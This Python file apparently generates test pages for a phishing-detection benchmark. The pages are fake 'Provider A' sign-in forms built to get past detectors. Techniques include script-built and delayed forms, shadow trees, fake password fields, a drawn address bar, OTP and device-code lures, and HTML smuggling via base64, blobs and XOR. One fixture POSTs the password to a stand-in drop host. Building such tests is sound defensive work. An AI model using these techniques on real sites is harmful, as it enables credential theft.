"""Traps that show everybody the same, and need a browser to be seen: made, moved, drawn or unpacked by script."""

import json
from collections.abc import Iterator

from bench.pages.sites.development.template import BODY, DROP, TRAP, page, painted
from bench.pages.sites.site import Site, data, drawing, filed, one, packed, site

_A = painted("Provider A")
_IN = BODY.replace("<h1>Sign in", "<h1>Sign in to Provider A")
_OFF = _IN.replace("next.php", f"{DROP}/p.php")


def sites() -> Iterator[Site]:
    """One provider's sign-in on a foreign host, or in a file."""
    yield _trap("fixed", "as it stands", _A)
    codes = ",".join(str(byte) for byte in _A.encode())
    yield _trap("fixed", "out of numbers", page("", "", f"document.write(String.fromCharCode({codes}))"))
    split = "document.title=['Pro','vider ','A'].join('')+' sign-in';document.querySelector('h1').textContent=document.title"
    yield _trap("fixed", "words in pieces", page("", BODY, split))
    yield site(
        "fixed", "form out of JSON", "trap",
        one(f"{TRAP}/", page("", "<div id=x></div>", "fetch('t.json').then(function(r){return r.json()}).then(function(t)"
            "{document.title=t.title;x.innerHTML=t.body})"), **{"t.json": data(json.dumps({"title": "Provider A", "body": _IN}))}),
    )  # fmt: skip
    yield _trap(
        "fixed",
        "in a shadow tree",
        page(
            "Provider A sign-in",
            "<div id=x></div>",
            f"x.attachShadow({{mode:'open'}}).innerHTML={json.dumps(_IN)}",
        ),
    )
    yield site(
        "fixed", "a drawing as the logo", "trap",
        one(f"{TRAP}/", page("Sign in", "<img src=l.svg alt='Provider A logo'>" + BODY), **{"l.svg": drawing("Provider A")}),
    )  # fmt: skip
    yield site(
        "fixed", "in a frame of another host", "trap",
        one(f"{TRAP}/", page("Document", f"<iframe width=700 height=500 srcdoc='{_IN.replace(chr(39), chr(34))}'></iframe>")),
    )  # fmt: skip
    yield _trap(
        "fixed",
        "styled out of sight until loaded",
        page(
            "Provider A sign-in",
            f"<div id=x style=display:none>{_IN}</div>",
            "onload=function(){x.style.display='block'}",
        ),
    )
    yield from _disguised()
    yield from _smuggled()


def _disguised() -> Iterator[Site]:
    dots = _IN.replace("type=password id=secret", "type=text style='-webkit-text-security:disc' id=secret")
    yield _trap("dressed field", "by style", page("Provider A", dots))
    starred = _IN.replace("type=password id=secret", "type=text id=secret autocomplete=off")
    stars = "var real='';secret.oninput=function(){real+=this.value.replace(/•/g,'');this.value=this.value.replace(/./g,'•')}"
    yield _trap(
        "dressed field",
        "by stars of its own",
        page("Provider A", starred.replace("placeholder=Password", "placeholder='Your password'"), stars),
    )
    drawn = _IN.replace(
        "<input type=password id=secret name=secret placeholder=Password>",
        "<div contenteditable aria-label=Password style='border:1px solid;-webkit-text-security:disc'>&nbsp;</div>",
    )
    yield _trap("dressed field", "an editable block", page("Provider A", drawn))
    bar = "<div class=window><div class=address-bar>https://accounts.provider-a.test/signin</div>{}</div>"
    yield _trap("drawn window", "in the page", page("Shared file", bar.format(BODY)))
    opened = f"go.onclick=function(){{x.innerHTML={json.dumps(bar.format(BODY))}}}"
    yield _trap(
        "drawn window",
        "after a click",
        page("Shared file", "<div id=x><button id=go>Sign in with Provider A</button></div>", opened),
    )
    for seconds in (1, 3):
        late = f"setTimeout(function(){{x.innerHTML={json.dumps(_IN)}}},{seconds}000)"
        yield _trap(
            "delayed form", f"{seconds} s", page("Provider A sign-in", "<div id=x>Please wait</div>", late)
        )
    code = "<h1>Provider A: enter the code we sent you</h1><form method=post action=c.php><input name=otp autocomplete=one-time-code><button>Next</button></form>"
    yield _trap("code", "one-time", page("Provider A security check", code))
    device = "<p>Copy the code ABCD-EFGH, then enter the code at <a href=https://microsoft.com/devicelogin>microsoft.com/devicelogin</a></p>"
    yield _trap(
        "device code",
        "made by script",
        page("View document", "<div id=x></div>", f"x.innerHTML={json.dumps(device)}"),
    )


def _smuggled() -> Iterator[Site]:
    whole = page("Provider A sign-in", _OFF)
    ways = {
        "written": f"document.write(atob('{packed(whole)}'))",
        "as a blob in a frame": f"var f=document.createElement('iframe');f.width=700;f.height=500;f.src=URL.createObjectURL("
        f"new Blob([atob('{packed(whole)}')],{{type:'text/html'}}));document.body.appendChild(f)",
        "as a blob in the window": f"location.replace(URL.createObjectURL(new Blob([atob('{packed(whole)}')],{{type:'text/html'}})))",
        "as data in a frame": f"var f=document.createElement('iframe');f.width=700;f.height=500;f.src='data:text/html;base64,{packed(whole)}';document.body.appendChild(f)",
        "by exclusive or": "var s="
        + json.dumps([byte ^ 23 for byte in whole.encode()])
        + ";document.open();document.write(s.map(function(b){return String.fromCharCode(b^23)}).join(''));document.close()",
    }
    for way, code in ways.items():
        yield site("smuggled page", f"{way}, attached", "trap", filed(page("", "", code)))
        if way in ("written", "by exclusive or"):
            yield site("smuggled page", f"{way}, on a host", "trap", one(f"{TRAP}/", page("", "", code)))
    yield site("attachment", "a form to a stranger", "trap", filed(whole))
    yield site(
        "attachment",
        "fetch to a stranger",
        "trap",
        filed(
            page(
                "Provider A",
                _IN,
                f"document.forms[0].onsubmit=function(e){{e.preventDefault();fetch('{DROP}/p',{{method:'POST',body:secret.value}})}}",
            )
        ),
    )


def _trap(group: str, variant: str, source: str) -> Site:
    return site(group, variant, "trap", one(f"{TRAP}/", source))
